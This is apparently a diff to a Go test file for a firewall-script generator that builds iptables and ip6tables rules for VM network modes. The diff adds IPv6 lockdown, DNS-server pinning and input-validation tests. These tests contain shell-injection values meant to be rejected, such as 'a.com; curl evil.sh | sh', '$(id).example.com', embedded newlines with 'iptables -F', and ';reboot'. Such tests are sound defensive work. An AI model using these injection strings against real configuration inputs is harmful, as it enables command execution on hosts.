@@ -55,9 +55,13 @@ func TestGenerateIptablesScript(t *testing.T) {
 				"iptables -A INPUT -i lo -j ACCEPT",
 				"state ESTABLISHED,RELATED -j ACCEPT",
 				"GATEWAY_IP=$(ip route | grep default",
+				"ip6tables -P OUTPUT DROP",
+				"ip6tables -P INPUT DROP",
+				"ip6tables -A OUTPUT -o lo -j ACCEPT",
 			},
 			excludes: []string{
 				"DABBI_OUT -d",
+				"ipv6-icmp",
 			},
 		},
 		{
@@ -73,11 +77,38 @@ func TestGenerateIptablesScript(t *testing.T) {
 				"ALLOWLIST MODE - Default deny",
 				"iptables -P OUTPUT DROP",
 				"Allow DNS for domain resolution",
-				"iptables -A OUTPUT -p udp --dport 53 -j ACCEPT",
+				"DNS_SERVERS=$(awk '/^nameserver/",
+				`iptables -A OUTPUT -p udp -d "$dns" --dport 53 -j ACCEPT`,
+				`iptables -A OUTPUT -p tcp -d "$dns" --dport 53 -j ACCEPT`,
 				"iptables -A OUTPUT -j DABBI_OUT",
+				"DNS6_SERVERS=$(awk '/^nameserver/",
+				`ip6tables -A OUTPUT -p udp -d "$dns" --dport 53 -j ACCEPT`,
+				"ip6tables -A OUTPUT -j DABBI_OUT",
+				"--icmpv6-type",
 				"# Allow IP: 8.8.8.8 - Google DNS",
 				"iptables -A DABBI_OUT -d 8.8.8.8 -j ACCEPT",
 			},
+			excludes: []string{
+				"iptables -A OUTPUT -p udp --dport 53 -j ACCEPT",
+				"iptables -A OUTPUT -p tcp --dport 53 -j ACCEPT",
+			},
+		},
+		{
+			name: "allowlist_with_dns_servers",
+			config: &multipass.NetworkConfig{
+				Mode:       multipass.NetworkModeAllowlist,
+				Rules:      []multipass.NetworkRule{{Type: "domain", Value: "github.com"}},
+				DNSServers: []string{"1.1.1.1", "9.9.9.9"},
+			},
+			contains: []string{
+				`DNS_SERVERS="1.1.1.1 9.9.9.9"`,
+				`DNS6_SERVERS=""`,
+				`iptables -A OUTPUT -p udp -d "$dns" --dport 53 -j ACCEPT`,
+			},
+			excludes: []string{
+				"iptables -A OUTPUT -p udp --dport 53 -j ACCEPT",
+				"/etc/resolv.conf",
+			},
 		},
 		{
 			name: "allowlist_with_cidr",
@@ -364,6 +395,95 @@ func TestValidateConfig(t *testing.T) {
 			expectErr: true,
 			errMsg:    "rule 2",
 		},
+		{
+			name: "dns_servers_valid",
+			config: &multipass.NetworkConfig{
+				Mode:       multipass.NetworkModeAllowlist,
+				Rules:      []multipass.NetworkRule{{Type: "domain", Value: "github.com"}},
+				DNSServers: []string{"1.1.1.1"},
+			},
+			expectErr: false,
+		},
+		{
+			name: "dns_server_must_be_ip",
+			config: &multipass.NetworkConfig{
+				Mode:       multipass.NetworkModeAllowlist,
+				Rules:      []multipass.NetworkRule{{Type: "domain", Value: "github.com"}},
+				DNSServers: []string{"1.1.1.1; curl evil.sh"},
+			},
+			expectErr: true,
+			errMsg:    "invalid DNS server",
+		},
+		{
+			name: "rule_comment_valid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "github.com", Comment: "GitHub API"}},
+			},
+			expectErr: false,
+		},
+		{
+			name: "rule_comment_with_newline_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "github.com", Comment: "GitHub\niptables -F"}},
+			},
+			expectErr: true,
+			errMsg:    "control characters",
+		},
+		{
+			name: "cidr_with_command_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeBlocklist,
+				Rules: []multipass.NetworkRule{{Type: "cidr", Value: "10.0.0.0/8;reboot"}},
+			},
+			expectErr: true,
+			errMsg:    "shell metacharacters",
+		},
+		{
+			name: "cidr_ipv6_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeBlocklist,
+				Rules: []multipass.NetworkRule{{Type: "cidr", Value: "fd00::/8"}},
+			},
+			expectErr: true,
+			errMsg:    "invalid IPv4 CIDR",
+		},
+		{
+			name: "domain_with_semicolon_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "github.com;iptables"}},
+			},
+			expectErr: true,
+			errMsg:    "shell metacharacters",
+		},
+		{
+			name: "domain_with_quote_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "git'hub.com"}},
+			},
+			expectErr: true,
+			errMsg:    "shell metacharacters",
+		},
+		{
+			name: "domain_with_substitution_invalid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "$(id).example.com"}},
+			},
+			expectErr: true,
+			errMsg:    "shell metacharacters",
+		},
+		{
+			name: "domain_with_trailing_dot_valid",
+			config: &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: "domain", Value: "api.example-site.com."}},
+			},
+			expectErr: false,
+		},
 	}
 
 	for _, tt := range tests {
@@ -429,6 +549,42 @@ func TestIsValidIP(t *testing.T) {
 	}
 }
 
+func TestGenerateIptablesScript_IPv6BasePolicy(t *testing.T) {
+	// Default-deny modes must lock down IPv6 too, or it bypasses the IPv4 rules
+	for _, config := range []*multipass.NetworkConfig{
+		{Mode: multipass.NetworkModeIsolated},
+		{Mode: multipass.NetworkModeAllowlist, Rules: []multipass.NetworkRule{{Type: "ip", Value: "8.8.8.8"}}},
+	} {
+		script, err := GenerateIptablesScript(config)
+		require.NoError(t, err)
+
+		for _, want := range []string{
+			"ip6tables -F OUTPUT",
+			"ip6tables -P OUTPUT DROP",
+			"ip6tables -P INPUT DROP",
+			"ip6tables -A OUTPUT -o lo -j ACCEPT",
+			"ip6tables -A INPUT -i lo -j ACCEPT",
+			"ip6tables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT",
+			"ip6tables -A OUTPUT -m state --state ESTABLISHED,RELATED -j ACCEPT",
+		} {
+			assert.Contains(t, script, want, "mode %s", config.Mode)
+		}
+		assert.NotContains(t, script, "ip6tables -P OUTPUT ACCEPT", "mode %s", config.Mode)
+	}
+
+	// Permissive modes reset it, so switching away from allowlist doesn't leave IPv6 blocked
+	for _, config := range []*multipass.NetworkConfig{
+		{Mode: multipass.NetworkModeNone},
+		{Mode: multipass.NetworkModeBlocklist, Rules: []multipass.NetworkRule{{Type: "ip", Value: "8.8.8.8"}}},
+	} {
+		script, err := GenerateIptablesScript(config)
+		require.NoError(t, err)
+
+		assert.Contains(t, script, "ip6tables -P OUTPUT ACCEPT", "mode %s", config.Mode)
+		assert.NotContains(t, script, "ip6tables -P OUTPUT DROP", "mode %s", config.Mode)
+	}
+}
+
 func TestGenerateSystemdService(t *testing.T) {
 	service := GenerateSystemdService()
 
@@ -468,3 +624,59 @@ func TestGenerateIptablesScript_ValidBashSyntax(t *testing.T) {
 		assert.Equal(t, 0, doubleQuotes%2, "unbalanced double quotes")
 	}
 }
+
+func TestGenerateIptablesScript_RejectsUnsafeValues(t *testing.T) {
+	configs := []*multipass.NetworkConfig{
+		{Mode: multipass.NetworkModeAllowlist, Rules: []multipass.NetworkRule{{Type: "domain", Value: "a.com; curl evil.sh | sh"}}},
+		{Mode: multipass.NetworkModeBlocklist, Rules: []multipass.NetworkRule{{Type: "cidr", Value: "10.0.0.0/8' -j ACCEPT; '"}}},
+		{Mode: multipass.NetworkModeAllowlist, Rules: []multipass.NetworkRule{{Type: "ip", Value: "1.1.1.1`id`"}}},
+		{Mode: multipass.NetworkModeAllowlist, DNSServers: []string{"1.1.1.1;reboot"}, Rules: []multipass.NetworkRule{{Type: "ip", Value: "1.1.1.1"}}},
+	}
+
+	for _, config := range configs {
+		_, err := GenerateIptablesScript(config)
+		assert.Error(t, err, "config %+v", config)
+	}
+}
+
+func TestValidateRule_Adversarial(t *testing.T) {
+	tests := []struct {
+		ruleType string
+		value    string
+	}{
+		{"domain", "evil.com -j ACCEPT; reboot"},
+		{"domain", "evil.com&&reboot"},
+		{"domain", "evil.com|sh"},
+		{"domain", "`reboot`.evil.com"},
+		{"domain", "evil.com>/etc/passwd"},
+		{"domain", "-j.evil.com"},
+		{"domain", "evil-.com"},
+		{"domain", "evil..com"},
+		{"domain", "under_score.com"},
+		{"domain", "evil.com\nreboot"},
+		{"domain", strings.Repeat("a", 64) + ".com"},
+		{"domain", strings.Repeat("abcdefgh.", 29) + "com"},
+		{"ip", "1.1.1.1 -j ACCEPT"},
+		{"ip", "1.1.1.1;reboot"},
+		{"ip", "$IP"},
+		{"cidr", "10.0.0.0/8 -j ACCEPT"},
+		{"cidr", "10.0.0.0/8&reboot"},
+		{"cidr", "10.0.0.0/33"},
+		{"cidr", "010.0.0.0/8"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.ruleType+"/"+tt.value, func(t *testing.T) {
+			config := &multipass.NetworkConfig{
+				Mode:  multipass.NetworkModeAllowlist,
+				Rules: []multipass.NetworkRule{{Type: tt.ruleType, Value: tt.value}},
+			}
+			assert.Error(t, ValidateConfig(config))
+
+			// Rejected before any script is generated
+			script, err := GenerateIptablesScript(config)
+			assert.Error(t, err)
+			assert.Empty(t, script)
+		})
+	}
+}